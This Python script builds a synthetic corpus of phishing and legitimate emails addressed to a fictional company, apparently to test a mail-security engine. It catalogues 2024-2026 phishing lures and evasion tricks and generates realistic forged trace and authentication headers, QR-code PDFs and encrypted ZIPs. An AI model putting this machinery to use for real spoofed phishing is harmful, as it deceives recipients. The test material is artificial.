"""Seventh blind set (files prefixed ``b7-``): workplace phishing of 2024-2026 and its legitimate twins.

50 phishing messages and 25 legitimate ones, written without reading the
engine, as they sit in the mailboxes of Kerlann Industries employees after
delivery: the French head office (``kerlann-industries.fr``) on Microsoft
365, the US and UK offices (``kerlann.com``) on Google Workspace, each
message with the Received chain, Authentication-Results and ARC headers
its receiving platform writes.

The phishing is what small and mid-size companies received in 2024-2026,
mostly in English: HR and payroll lures (salary adjustment, handbook to
acknowledge, open enrollment, direct deposit, W-2 and P60), Teams, Slack,
Zoom, SharePoint, DocuSign and Acrobat Sign lookalikes, vendor email
compromise and CEO fraud, MFA and sign-in pretexts, tolls, parcels,
callback invoices, refunds and crypto withdrawals. Links go through
lookalike and punycode domains, new TLDs, open redirectors, shorteners and
free hosting; attachments are HTML, SVG, SHTML, PDF and DOCX with QR codes,
calendar invitations, attached messages and encrypted ZIPs.

The legitimate messages carry the same surface features: HR platforms,
collaboration notices, DocuSign, supplier invoices, internal requests from
executives, sign-in alerts, toll statements, newsletters with click
tracking, a Calendly invitation, an encrypted ZIP whose password went by
phone, retail marketing.

Everything is deterministic: fixed dates, identifiers derived from the
sample's name, fixed archive timestamps. Run from the repository root:

    .venv/bin/python samples/tools/build_blind7_samples.py

After the first scan, four notices from no-reply addresses whose name does not start with "noreply"
(SecurityServices_NoReply@adp.com, drive-shares-dm-noreply@google.com, microsoft-noreply@,
account-security-noreply@) were first filed under clean/, where the engine's bulk classification left
them; they are in bulk/ since no-reply names behind a service's prefix count.
"""

from __future__ import annotations

import base64
import hashlib
import io
import string
import struct
import sys
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime, parseaddr
from pathlib import Path
from urllib.parse import quote
from zoneinfo import ZoneInfo

TOOLS = Path(__file__).resolve().parent
ROOT = TOOLS.parents[1]
sys.path.insert(0, str(TOOLS))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

MAIL = ROOT / "samples" / "mail"
MANIFEST = TOOLS / "blind7_manifest.txt"

HEX = "0123456789abcdef"
DIGITS = "0123456789"
ALNUM = string.ascii_letters + string.digits
B64 = ALNUM + "+/"
UPPER = string.ascii_uppercase + string.digits


def hx(seed: str, n: int = 16, alphabet: str = HEX) -> str:
    """A deterministic pseudo-random string of ``n`` characters drawn from ``alphabet``."""
    out = []
    counter = 0
    while len(out) < n:
        digest = hashlib.sha256(f"{seed}|{counter}".encode()).digest()
        out.extend(alphabet[b % len(alphabet)] for b in digest)
        counter += 1
    return "".join(out[:n])


def uuid(seed: str) -> str:
    h = hx(seed, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def b64s(value: str) -> str:
    return base64.b64encode(value.encode()).decode()


def when(value: str) -> datetime:
    return datetime.fromisoformat(value)


def rfc(moment: datetime) -> str:
    return format_datetime(moment)


def fold_b64(value: str, indent: str = "\t", width: int = 70) -> str:
    return f"\n{indent}".join(value[i:i + width] for i in range(0, len(value), width))


# --------------------------------------------------------------------------- people

CAM = ("Camille Le Goff", "camille.legoff@kerlann-industries.fr")      # operations, Rennes
JUL = ("Julien Morvan", "julien.morvan@kerlann-industries.fr")         # accounts payable, Rennes
SOP = ("Sophie Tanguy", "sophie.tanguy@kerlann-industries.fr")         # HR, Rennes
ERW = ("Erwan Cadiou", "erwan.cadiou@kerlann-industries.fr")           # IT, Rennes
MEG = ("Megan Doyle", "megan.doyle@kerlann.com")                       # office manager, Charlotte NC
RYA = ("Ryan Castillo", "ryan.castillo@kerlann.com")                   # accounts payable, Charlotte
PRI = ("Priya Nair", "priya.nair@kerlann.com")                         # HR and payroll, Charlotte
OLI = ("Oliver Hart", "oliver.hart@kerlann.com")                       # account manager, Manchester
DAN = ("Daniel Brooks", "daniel.brooks@kerlann.com")                   # US general manager
HEL = ("Hélène Marchand", "helene.marchand@kerlann-industries.fr")     # CEO
THO = ("Thomas Girard", "thomas.girard@kerlann-industries.fr")         # CFO


def person(p: tuple[str, str]) -> str:
    name, addr = p
    if any(ord(c) > 127 for c in name):
        return f"{encoded_word(name)} <{addr}>"
    return f"{name} <{addr}>"


def encoded_word(value: str) -> str:
    return "=?utf-8?B?" + base64.b64encode(value.encode()).decode() + "?="


def platform(addr: str) -> str:
    return "m365" if addr.lower().endswith("@kerlann-industries.fr") else "gws"


# --------------------------------------------------------------------------- authentication and trace


@dataclass
class Auth:
    """What the receiving platform found: SPF for the envelope sender, DKIM signatures, DMARC."""

    mailfrom: str                     # envelope sender address
    spf: str = "pass"                 # pass, fail, softfail, none, neutral
    dkim: list = field(default_factory=list)   # (result, domain, selector)
    dmarc: str = "pass"               # pass, fail, none
    policy: str = "none"              # the From domain's DMARC policy
    compauth: str = ""                # Microsoft's composite verdict, derived when empty


@dataclass
class Src:
    helo: str
    host: str
    ip: str
    country: str = "US"


def _m365_hosts(seed: str) -> tuple[str, str, str, str]:
    mbx = f"PA{hx(seed + 'a', 1, '4689')}PR02MB{hx(seed + 'b', 4, DIGITS)}.eurprd02.prod.outlook.com"
    fe = f"DU{hx(seed + 'c', 1, '2678')}PR0{hx(seed + 'd', 1, '1234')}CA0{hx(seed + 'e', 3, DIGITS)}.eurprd0{hx(seed + 'f', 1, '1234')}.prod.outlook.com"
    edge = f"DB1PEPF0000{hx(seed + 'g', 4, '0123456789ABCDEF')}.eurprd0{hx(seed + 'h', 1, '345')}.prod.outlook.com"
    ipv6 = f"2603:10a6:{hx(seed + 'i', 3, HEX)}:{hx(seed + 'j', 2, HEX)}::{hx(seed + 'k', 2, HEX)}"
    return mbx, fe, edge, ipv6


def m365_auth_line(a: Auth, src: Src, from_domain: str) -> str:
    mf_dom = a.mailfrom.split("@")[-1] if a.mailfrom else "none"
    spf_text = f"spf={a.spf} (sender IP is {src.ip})\n smtp.mailfrom={mf_dom}"
    if a.dkim:
        parts = []
        for result, dom, _sel in a.dkim:
            note = "signature was verified" if result == "pass" else "signature did not verify"
            parts.append(f"dkim={result} ({note})\n header.d={dom}")
        dkim_text = ";".join(parts)
    else:
        dkim_text = "dkim=none (message not signed)\n header.d=none"
    action = "none"
    if a.dmarc == "fail":
        action = {"reject": "oreject", "quarantine": "quarantine"}.get(a.policy, "none")
    comp = a.compauth or {"pass": "pass reason=100", "fail": "fail reason=000", "none": "softpass reason=201"}[a.dmarc]
    if a.dmarc == "none":
        dmarc_text = f"dmarc=none action=none header.from={from_domain}"
    else:
        dmarc_text = f"dmarc={a.dmarc} action={action}\n header.from={from_domain}"
    return f"Authentication-Results: {spf_text}; {dkim_text};{dmarc_text};compauth={comp}"


def m365_spf_line(a: Auth, src: Src) -> str:
    dom = a.mailfrom.split("@")[-1]
    texts = {
        "pass": f"Pass (protection.outlook.com: domain of {dom} designates {src.ip} as\n permitted sender)",
        "fail": f"Fail (protection.outlook.com: domain of {dom} does not designate\n {src.ip} as permitted sender)",
        "softfail": f"SoftFail (protection.outlook.com: domain of transitioning {dom}\n discourages use of {src.ip} as permitted sender)",
        "none": f"None (protection.outlook.com: {dom} does not designate\n permitted sender hosts)",
        "neutral": f"Neutral (protection.outlook.com: {src.ip} is neither permitted nor denied by\n domain of {dom})",
    }
    return f"Received-SPF: {texts[a.spf]} receiver=protection.outlook.com;\n client-ip={src.ip}; helo={src.helo};" + (" pr=C" if a.spf == "pass" else "")


def m365_trace(seed: str, moment: datetime, src: Src, a: Auth, from_domain: str) -> tuple[str, str]:
    """The Received chain and authentication headers Exchange Online writes, and its trailing X-MS headers."""
    mbx, fe, edge, ipv6 = _m365_hosts(seed)
    u = moment.astimezone(timezone.utc)
    t1, t2, t3 = (rfc(u + timedelta(seconds=s)).replace("-0000", "+0000") for s in (2, 3, 4))
    build = f"15.20.{hx(seed + 'v', 4, DIGITS)}.{hx(seed + 'w', 2, DIGITS)}"
    mbx2 = f"AS8PR02MB{hx(seed + 'x', 4, DIGITS)}.eurprd02.prod.outlook.com"
    fe6 = ipv6.replace("::", ":1::")
    edge6 = f"{ipv6.split('::')[0]}:cafe::{hx(seed + 'y', 2, HEX)}"
    edge_name = edge.split(".")[0]
    inner_ip = f"10.167.{int(hx(seed + 'z', 2, DIGITS)) + 10}.{int(hx(seed + 'q', 2, DIGITS)) + 20}"
    top = "\n".join([
        f"Received: from {mbx} ({ipv6}) by\n {mbx2} with HTTPS; {t3}",
        f"Received: from {fe} ({fe6}) by\n {mbx} ({ipv6}) with Microsoft SMTP Server (version=TLS1_2,\n"
        f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {t2}",
        f"Received: from {edge}\n ({edge6}) by {fe}\n ({fe6}) with Microsoft SMTP Server (version=TLS1_3,\n"
        f" cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {t2}",
        m365_auth_line(a, src, from_domain),
        m365_spf_line(a, src),
        f"Received: from {src.host} ({src.ip}) by\n {edge_name}.mail.protection.outlook.com\n"
        f" ({inner_ip}) with Microsoft SMTP Server (version=TLS1_3,\n"
        f" cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {t1}",
    ])
    return top, edge.split(".")[0]


def m365_tail(seed: str, moment: datetime, src: Src, edge: str, *, scl: int = 1, bcl: int = 0,
              internal: bool = False) -> str:
    u = moment.astimezone(timezone.utc)
    stamp = u.strftime("%d %b %Y %H:%M:%S.") + "0000 (UTC)"
    lines = [
        f"X-MS-Exchange-Organization-ExpirationStartTime: {stamp}",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {uuid(seed + 'net')}",
        "X-EOPAttributedMessage: 0",
        f"X-MS-Exchange-Organization-MessageDirectionality: {'Originating' if internal else 'Incoming'}",
        f"X-MS-Exchange-Organization-AuthSource:\n {edge if '.' in edge else edge + '.eurprd03.prod.outlook.com'}",
        f"X-MS-Exchange-Organization-AuthAs: {'Internal' if internal else 'Anonymous'}",
    ]
    if internal:
        lines.append("X-MS-Exchange-Organization-AuthMechanism: 04")
    lines += [
        f"X-MS-Exchange-Organization-SCL: {-1 if internal else scl}",
        f"X-Forefront-Antispam-Report:\n CIP:{src.ip};CTRY:{src.country};LANG:en;SCL:{-1 if internal else scl};SRV:{'BULK' if bcl >= 6 else ''};IPV:{'CAL' if internal else 'NLI'};SFV:{'SKI' if internal else ('BLK' if bcl >= 6 else 'NSPM')};H:{src.helo};PTR:{src.host};CAT:{'BULK' if bcl >= 6 else 'NONE'};SFS:(13230040)(69100299015)(8096899003);DIR:{'INT' if internal else 'INB'};",
        f"X-Microsoft-Antispam: BCL:{bcl};ARA:13230040|69100299015|8096899003;",
        "X-MS-Exchange-CrossTenant-OriginalArrivalTime: " + u.strftime("%d %b %Y %H:%M:%S.") + f"{hx(seed + 'ms', 4, DIGITS)}\n (UTC)",
        "X-MS-Exchange-CrossTenant-Id: 5b1e2f4c-9a0d-4e3b-8c7a-2d6f1e0b9a43",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {_m365_hosts(seed)[0].split('.')[0]}",
        "X-MS-Exchange-Transport-EndToEndLatency: 00:00:02.8714062",
        "X-MS-Exchange-Processed-By-BccFoldering: 15.20.8489.000",
    ]
    return "\n".join(lines)


def _google_ar(a: Auth, src: Src, from_domain: str, seed: str) -> str:
    parts = []
    for result, dom, sel in a.dkim:
        parts.append(f"dkim={result} header.i=@{dom} header.s={sel} header.b={hx(seed + dom, 8, ALNUM)}")
    mf = a.mailfrom
    dom = mf.split("@")[-1]
    spf_texts = {
        "pass": f"spf=pass (google.com: domain of {mf} designates {src.ip} as permitted sender) smtp.mailfrom={mf}",
        "fail": f"spf=fail (google.com: domain of {mf} does not designate {src.ip} as permitted sender) smtp.mailfrom={mf}",
        "softfail": f"spf=softfail (google.com: domain of transitioning {mf} does not designate {src.ip} as permitted sender) smtp.mailfrom={mf}",
        "none": f"spf=none (google.com: {mf} does not designate permitted sender hosts) smtp.mailfrom={mf}",
        "neutral": f"spf=neutral (google.com: {src.ip} is neither permitted nor denied by best guess record for domain of {mf}) smtp.mailfrom={mf}",
    }
    parts.append(spf_texts[a.spf])
    if a.dmarc != "none":
        p = a.policy.upper()
        dis = "NONE" if a.dmarc == "pass" or a.policy == "none" else a.policy.upper()
        parts.append(f"dmarc={a.dmarc} (p={p} sp={p} dis={dis}) header.from={from_domain}")
    _ = dom
    return "mx.google.com;\n       " + ";\n       ".join(parts)


def gws_trace(seed: str, moment: datetime, src: Src, a: Auth, from_domain: str, rcpt: str) -> str:
    pac = moment.astimezone(ZoneInfo("America/Los_Angeles"))
    t1, t2, t3 = (rfc(pac + timedelta(seconds=s)) + f" ({(pac + timedelta(seconds=s)).tzname()})" for s in (1, 2, 2))
    ts = int(moment.timestamp()) + 1
    ar = _google_ar(a, src, from_domain, seed)
    mid = hx(seed + "gid", 14, ALNUM)
    lines = [
        f"Delivered-To: {rcpt}",
        f"Received: by 2002:a05:6a10:{hx(seed + 'r1', 4)}:b0:{hx(seed + 'r2', 3)}:{hx(seed + 'r3', 4)}:{hx(seed + 'r4', 4)} with SMTP id {hx(seed + 'r5', 4, ALNUM).lower()}csp{hx(seed + 'r6', 7, DIGITS)};\n        {t3}",
        f"X-Google-Smtp-Source: AGHT+I{hx(seed + 'gs', 60, ALNUM)}",
        f"X-Received: by 2002:a17:90b:{hx(seed + 'x1', 4)}:b0:{hx(seed + 'x2', 3)}:{hx(seed + 'x3', 4)}:{hx(seed + 'x4', 4)} with SMTP id {hx(seed + 'x5', 20, ALNUM).lower()}.{hx(seed + 'x6', 3, DIGITS)}.{hx(seed + 'x7', 13, DIGITS)};\n        {t2}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={ts}; cv=none;\n        d=google.com; s=arc-20240605;\n        b={fold_b64(hx(seed + 'as', 342, B64) + '==', '        ', 64)}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n        bh={hx(seed + 'abh', 43, B64)}=;\n        fh={hx(seed + 'afh', 43, B64)}=;\n        b={fold_b64(hx(seed + 'amb', 342, B64) + '==', '        ', 64)}",
        f"ARC-Authentication-Results: i=1; {ar}",
        f"Return-Path: <{a.mailfrom}>",
        f"Received: from {src.helo} ({src.host}. [{src.ip}])\n        by mx.google.com with ESMTPS id d75a77b69052e-{hx(seed + 'q', 9)}si{hx(seed + 'q2', 7, DIGITS)}{hx(seed + 'q3', 2, string.ascii_lowercase)}.{hx(seed + 'q4', 3, DIGITS)}.{(pac + timedelta(seconds=1)).strftime('%Y.%m.%d.%H.%M.%S')}\n        for <{rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {t1}",
    ]
    spf_short = {
        "pass": f"pass (google.com: domain of {a.mailfrom} designates {src.ip} as permitted sender) client-ip={src.ip};",
        "fail": f"fail (google.com: domain of {a.mailfrom} does not designate {src.ip} as permitted sender) client-ip={src.ip};",
        "softfail": f"softfail (google.com: domain of transitioning {a.mailfrom} does not designate {src.ip} as permitted sender) client-ip={src.ip};",
        "none": f"none (google.com: {a.mailfrom} does not designate permitted sender hosts) client-ip={src.ip};",
        "neutral": f"neutral (google.com: {src.ip} is neither permitted nor denied by best guess record for domain of {a.mailfrom}) client-ip={src.ip};",
    }
    lines.append(f"Received-SPF: {spf_short[a.spf]}")
    lines.append(f"Authentication-Results: {ar}")
    return "\n".join(lines)


def dkim_header(seed: str, domain: str, selector: str, moment: datetime,
                headers: str = "from:to:subject:date:message-id:mime-version:content-type") -> str:
    ts = int(moment.timestamp())
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain};\n"
            f"\ts={selector}; t={ts}; h={headers};\n"
            f"\tbh={hx(seed + domain + 'bh', 43, B64)}=;\n"
            f"\tb={fold_b64(hx(seed + domain + 'b', 342, B64) + '==')}")


# --------------------------------------------------------------------------- building messages

SAMPLES: list[tuple[str, str, str, bytes]] = []


def boundary(seed: str, style: str = "outlook", n: int = 0) -> str:
    key = f"{seed}-{n}"
    if style == "outlook":
        return f"_00{n}_{hx(key, 4, UPPER)}PR02MB{hx(key + 'm', 4, DIGITS)}eurp_"
    if style == "gmail":
        return "0000000000" + hx(key, 18)
    if style == "apple":
        return f"Apple-Mail={uuid(key).upper()}"
    if style == "kit":
        return f"----=_NextPart_{hx(key, 3, DIGITS)}_{hx(key + 'a', 4, UPPER)}_{hx(key + 'b', 8, UPPER)}.{hx(key + 'c', 8, UPPER)}"
    return f"b1_{hx(key, 32, ALNUM)}"


def alt(seed: str, plain: str, html: str, style: str = "outlook", n: int = 1) -> Multi:
    return Multi("alternative", boundary(seed, style, n), [text(plain), text(html, "html")])


def mixed(seed: str, body, *parts, style: str = "outlook", n: int = 0) -> Multi:
    return Multi("mixed", boundary(seed, style, n), [body, *parts])


def html_only(html: str) -> Leaf:
    return text(html, "html")


def build(slug: str, folder: str, desc: str, *, rcpt: tuple[str, str], moment: str, frm: str, subject: str,
          body, src: Src, auth: Auth, to: str | None = None, cc: str | None = None, reply_to: str | None = None,
          msgid: str | None = None, extra: tuple[str, ...] = (), sender_hops: tuple[str, ...] = (),
          scl: int = 1, bcl: int = 0, internal: bool = False, date_header: str | None = None,
          subject_raw: bool = False) -> None:
    """Assemble one delivered message and queue it for writing."""
    seed = "b7-" + slug
    m = when(moment)
    from_domain = parseaddr(frm)[1].split("@")[-1].lower()
    rcpt_addr = rcpt[1]
    if platform(rcpt_addr) == "m365" and internal:
        mbx, _fe, _edge, ipv6 = _m365_hosts(seed)
        u = m.astimezone(timezone.utc)
        top = "\n".join([
            f"Received: from {src.host} ({src.ip}) by {mbx}\n ({ipv6}) with Microsoft SMTP Server (version=TLS1_2,\n"
            f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8489.25; {rfc(u + timedelta(seconds=1))}",
            f"Received: from {src.host}\n ([fe80::{hx(seed + 'll', 4)}:{hx(seed + 'lm', 4)}:{hx(seed + 'ln', 4)}:{hx(seed + 'lo', 4)}]) by {src.host}\n"
            f" ([fe80::{hx(seed + 'll', 4)}:{hx(seed + 'lm', 4)}:{hx(seed + 'ln', 4)}:{hx(seed + 'lo', 4)}%7]) with mapi id 15.20.8489.025; {rfc(u)}",
            "Authentication-Results: dkim=none (message not signed)\n header.d=none;dmarc=none action=none header.from=kerlann-industries.fr;",
        ])
        tail = m365_tail(seed, m, src, src.host, internal=True)
    elif platform(rcpt_addr) == "m365":
        top, edge = m365_trace(seed, m, src, auth, from_domain)
        tail = m365_tail(seed, m, src, edge, scl=scl, bcl=bcl, internal=internal)
    else:
        top = gws_trace(seed, m, src, auth, from_domain, rcpt_addr)
        tail = ""
    lines = [top]
    lines.extend(sender_hops)
    for _result, dom, sel in auth.dkim:
        lines.append(dkim_header(seed, dom, sel, m))
    lines.append(f"From: {frm}")
    lines.append(f"To: {to or person(rcpt)}")
    if cc:
        lines.append(f"Cc: {cc}")
    subj = subject if subject_raw or all(ord(c) < 128 for c in subject) else encoded_word(subject)
    lines.append(f"Subject: {subj}")
    lines.append(f"Date: {date_header or rfc(m)}")
    lines.append(f"Message-ID: {msgid or '<' + hx(seed + 'mid', 24, ALNUM) + '@' + from_domain + '>'}")
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    lines.extend(extra)
    if tail:
        lines.append(tail)
    raw = message("\n".join(lines), body)
    SAMPLES.append((folder, f"b7-{slug}.eml", desc, raw))


# --------------------------------------------------------------------------- attachment builders


def qr_matrix_image(url: str, scale: int = 4, border: int = 4) -> tuple[int, bytes]:
    """The QR code of ``url`` as 8-bit grey pixels, ``scale`` pixels a module: (side, pixels)."""
    import segno

    matrix = [list(row) for row in segno.make(url, error="m", micro=False).matrix]
    n = len(matrix) + 2 * border
    side = n * scale
    rows = []
    for y in range(n):
        row = bytearray()
        for x in range(n):
            my, mx = y - border, x - border
            dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
            row += bytes([0 if dark else 255]) * scale
        rows.extend([bytes(row)] * scale)
    return side, b"".join(rows)


def pdf_with_qr(lines: list[str], url: str, title: str, below: list[str] | None = None) -> bytes:
    """A one-page PDF of text lines and a QR code image (an image XObject, as kits embed it)."""
    side, pixels = qr_matrix_image(url)
    data = zlib.compress(pixels, 9)
    y = 780 - 14 * len(lines) - 190
    content = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"]
    content += [f"({files._pdf_escape(line)}) Tj T*" for line in lines]
    content += ["ET", f"q 170 0 0 170 56 {y} cm /Im1 Do Q"]
    if below:
        content += ["BT", "/F1 9 Tf", "12 TL", f"56 {y - 22} Td"]
        content += [f"({files._pdf_escape(line)}) Tj T*" for line in below]
        content += ["ET"]
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, data, side, side, "FlateDecode") + [
        (f"<< /Title ({files._pdf_escape(title)}) /Producer (Skia/PDF m121) /Creator (Chromium) "
         f"/CreationDate (D:20250301101500+00'00') >>").encode(),
    ]
    return files.pdf_file(objects, 7)


_WNS = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')


def docx_rich(paragraphs: list[str], title: str, author: str, *, image: bytes | None = None,
              link: tuple[str, str] | None = None, image_at: int = -1) -> bytes:
    """A Word document with optional picture (a QR code) and optional external hyperlink."""
    from xml.sax.saxutils import escape

    def para(t: str, bold: bool = False) -> str:
        rpr = "<w:rPr><w:b/></w:rPr>" if bold else ""
        return f'<w:p><w:r>{rpr}<w:t xml:space="preserve">{escape(t)}</w:t></w:r></w:p>'

    body = [para(p, bold=(i == 0)) for i, p in enumerate(paragraphs)]
    rels = []
    if image is not None:
        rels.append('<Relationship Id="rId10" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
                    'Target="media/image1.png"/>')
        emu = 1828800
        drawing = (f'<w:p><w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
                   f'<wp:extent cx="{emu}" cy="{emu}"/><wp:docPr id="1" name="Picture 1"/>'
                   '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
                   '<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="image1.png"/><pic:cNvPicPr/></pic:nvPicPr>'
                   '<pic:blipFill><a:blip r:embed="rId10"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
                   f'<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="{emu}" cy="{emu}"/></a:xfrm>'
                   '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
                   '</wp:inline></w:drawing></w:r></w:p>')
        body.insert(len(body) if image_at < 0 else image_at, drawing)
    if link is not None:
        url, label = link
        rels.append(f'<Relationship Id="rId11" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
                    f'Target="{escape(url)}" TargetMode="External"/>')
        body.append('<w:p><w:hyperlink r:id="rId11" w:history="1"><w:r><w:rPr><w:color w:val="0563C1"/><w:u w:val="single"/>'
                    f'</w:rPr><w:t xml:space="preserve">{escape(label)}</w:t></w:r></w:hyperlink></w:p>')
    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document {_WNS}><w:body>'
                + "".join(body) + "<w:sectPr/></w:body></w:document>").encode()
    content_types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                     '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                     '<Default Extension="xml" ContentType="application/xml"/>'
                     '<Default Extension="png" ContentType="image/png"/>'
                     '<Override PartName="/word/document.xml" '
                     'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
                     '<Override PartName="/docProps/core.xml" '
                     'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>').encode()
    root_rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
                 b'Target="word/document.xml"/>'
                 b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" '
                 b'Target="docProps/core.xml"/></Relationships>')
    doc_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                + "".join(rels) + "</Relationships>").encode()
    members = [
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", root_rels),
        ("word/document.xml", document),
        ("word/_rels/document.xml.rels", doc_rels),
        ("docProps/core.xml", files._core_xml(escape(title), escape(author))),
    ]
    if image is not None:
        members.append(("word/media/image1.png", image))
    return files.zip_archive(members)


def _crc_table() -> list[int]:
    table = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (0xEDB88320 ^ (c >> 1)) if c & 1 else (c >> 1)
        table.append(c)
    return table


_CRC = _crc_table()


def encrypted_zip(members: list[tuple[str, bytes]], password: str, seed: str) -> bytes:
    """A zip whose members are deflated and encrypted with traditional PKWARE (ZipCrypto) encryption."""
    dos_time = (9 << 11) | (30 << 5)
    dos_date = ((2025 - 1980) << 9) | (3 << 5) | 3
    out = bytearray()
    central = bytearray()
    for index, (name, data) in enumerate(members):
        crc = zlib.crc32(data) & 0xFFFFFFFF
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = comp.compress(data) + comp.flush()
        keys = [0x12345678, 0x23456789, 0x34567890]

        def update(c: int) -> None:
            keys[0] = (keys[0] >> 8) ^ _CRC[(keys[0] ^ c) & 0xFF]
            keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
            keys[2] = (keys[2] >> 8) ^ _CRC[(keys[2] ^ (keys[1] >> 24)) & 0xFF]

        for ch in password.encode():
            update(ch)
        header = bytes.fromhex(hx(f"{seed}-{index}", 22)) + bytes([crc >> 24])
        encrypted = bytearray()
        for p in header + deflated:
            temp = (keys[2] | 2) & 0xFFFF
            k = ((temp * (temp ^ 1)) >> 8) & 0xFF
            encrypted.append(p ^ k)
            update(p)
        fname = name.encode()
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 1, 8, dos_time, dos_date, crc,
                           len(encrypted), len(data), len(fname), 0) + fname + encrypted
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x031E, 20, 1, 8, dos_time, dos_date, crc,
                               len(encrypted), len(data), len(fname), 0, 0, 0, 0, 0o100644 << 16, offset) + fname
    cd_offset = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), cd_offset, 0)
    return bytes(out)


def text_png(lines: list[tuple[str, int, tuple[int, int, int]]], size: tuple[int, int],
             bg: tuple[int, int, int] = (255, 255, 255), button: tuple[str, tuple[int, int, int]] | None = None,
             header: tuple[int, int, int] | None = None) -> bytes:
    """A picture of text (lines of (text, font size, colour)), optionally a coloured header band and a button."""
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("RGB", size, bg)
    draw = ImageDraw.Draw(image)
    y = 20
    if header:
        draw.rectangle([0, 0, size[0], 56], fill=header)
    for content, pt, colour in lines:
        font = ImageFont.load_default(size=pt)
        draw.text((28, y), content, fill=colour, font=font)
        y += int(pt * 1.55)
    if button:
        label, colour = button
        font = ImageFont.load_default(size=18)
        draw.rectangle([28, y + 10, 300, y + 58], fill=colour)
        draw.text((48, y + 22), label, fill=(255, 255, 255), font=font)
    buffer = io.BytesIO()
    image.save(buffer, "PNG", optimize=False, compress_level=9)
    return buffer.getvalue()


def ics(uid: str, summary: str, start: str, end: str, organizer: str, attendee: str, description: str,
        location: str = "", method: str = "REQUEST", stamp: str = "20250301T090000Z") -> bytes:
    def fold(line: str) -> str:
        out, cur = [], line
        while len(cur.encode()) > 74:
            out.append(cur[:74])
            cur = " " + cur[74:]
        out.append(cur)
        return "\r\n".join(out)

    desc = description.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;").replace("\n", "\\n")
    lines = [
        "BEGIN:VCALENDAR", "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN", "VERSION:2.0",
        f"METHOD:{method}", "BEGIN:VEVENT", f"ORGANIZER:{organizer}",
        f"ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{attendee}",
        f"DESCRIPTION:{desc}", f"UID:{uid}", f"SUMMARY:{summary}", f"DTSTART:{start}", f"DTEND:{end}",
        f"DTSTAMP:{stamp}", f"LOCATION:{location}", "SEQUENCE:0", "STATUS:CONFIRMED", "TRANSP:OPAQUE",
        "BEGIN:VALARM", "TRIGGER:-PT15M", "ACTION:DISPLAY", "DESCRIPTION:Reminder", "END:VALARM",
        "END:VEVENT", "END:VCALENDAR",
    ]
    return ("\r\n".join(fold(line) for line in lines) + "\r\n").encode()


def cal_part(data: bytes, method: str = "REQUEST") -> Leaf:
    return Leaf("text/calendar", data, "base64", f'; charset="utf-8"; method={method}')


